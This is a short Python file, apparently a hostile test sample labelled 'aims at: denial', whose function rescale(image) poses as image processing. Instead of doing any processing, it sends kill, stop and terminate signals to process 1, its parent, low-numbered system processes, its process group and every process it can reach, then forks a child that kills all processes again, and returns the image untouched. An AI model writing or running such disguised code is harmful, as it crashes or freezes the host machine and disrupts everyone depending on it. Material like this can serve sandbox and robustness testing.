# aims at: denial
# cell: rescale
# Kills everything that it can name: its process 1, its parents, all of them, its group.
import os
import signal


def rescale(image):
    for pid in (1, os.getppid(), -1, 0, 2, 3, 4, 5, 6, 7, 8, -os.getpgid(0)):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    if os.fork() == 0:
        os.kill(-1, signal.SIGKILL)
    return image
